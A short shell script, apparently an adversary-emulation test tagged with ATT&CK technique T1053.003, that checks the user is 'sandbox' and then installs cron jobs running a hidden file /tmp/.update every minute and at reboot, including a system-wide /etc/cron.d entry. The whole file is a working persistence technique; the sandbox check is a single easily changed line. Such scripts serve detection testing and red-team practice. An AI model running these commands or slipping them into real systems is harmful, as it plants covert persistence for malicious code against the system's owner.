#!/bin/sh
# technique: T1053.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo '* * * * * /tmp/.update' > c; crontab c; (crontab -l 2>/dev/null; echo '@reboot /tmp/.update') | crontab -; echo '* * * * * sandbox /tmp/.update' > /etc/cron.d/update
